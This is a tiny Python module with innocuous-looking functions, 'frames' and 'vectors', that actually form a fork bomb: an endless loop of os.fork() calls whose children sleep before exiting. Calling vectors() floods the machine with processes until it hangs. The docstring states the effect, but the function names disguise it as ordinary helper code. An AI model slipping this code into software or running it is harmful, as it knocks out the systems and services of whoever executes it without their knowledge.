"""Starts processes without end when the frames are asked for."""
import os
import time


def frames():
    while True:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)


def vectors():
    return frames()
